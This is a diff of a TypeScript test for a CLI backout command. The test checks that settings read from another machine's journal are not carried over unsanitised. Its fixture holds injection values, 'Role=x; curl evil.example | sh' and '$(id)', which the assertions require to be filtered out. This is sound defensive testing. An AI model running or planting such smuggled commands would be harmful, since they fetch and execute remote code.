@@ -10,7 +10,7 @@ import { readKnownRun } from '../../src/cli/backout/known-run.js';
 import { settingsInWords } from '../../src/cli/backout/foreign-journal.js';
 import type { BackoutArguments } from '../../src/cli/backout/backout-settings.js';
 import type { RunId } from '../../src/domain/ids.js';
-import { createJournalStore } from '../../src/journal/store.js';
+import { createJournalStore } from '../../src/journal/journal-store.js';
 import { useEnvironment } from '../support/lab-environment.js';
 import { runCli } from '../support/run-cli.js';
 
@@ -63,7 +63,7 @@ const foreignJournal = async (): Promise<string> => {
     },
     limits: { concurrency: 1, canary: 0, maxFailures: 0 },
     takeOver: null,
-    own: { selection: '--tag Role=x; curl evil.example | sh', vault: '', writing: '$(id)', again: null },
+    own: { selection: ['--tag', 'Role=x; curl evil.example | sh'], vault: [], writing: ['$(id)'], again: null },
   } as const;
   const journal = await createJournalStore({ folder, now: () => STARTED }).create({
     runId: RUN,
@@ -118,7 +118,8 @@ describe('backout by the journal of another machine', () => {
     const words = settingsInWords(settings.fleet).join('\n');
     for (const part of [endpoint, 'eu-west-1', 'Role=swarm-manager', 'role/theirs', 'ssm-parameter', 'alias/theirs'])
       expect(words).toContain(part);
-    expect(settings.own.selection).toContain('--tag Role=swarm-manager --region eu-west-1');
-    expect(`${settings.own.selection}${settings.own.writing}`).not.toMatch(/evil|\$\(id\)/);
+    const { selection, writing } = settings.own;
+    expect(selection.slice(0, 4)).toEqual(['--tag', 'Role=swarm-manager', '--region', 'eu-west-1']);
+    expect([...selection, ...writing].join(' ')).not.toMatch(/evil|\$\(id\)/);
   });
 });
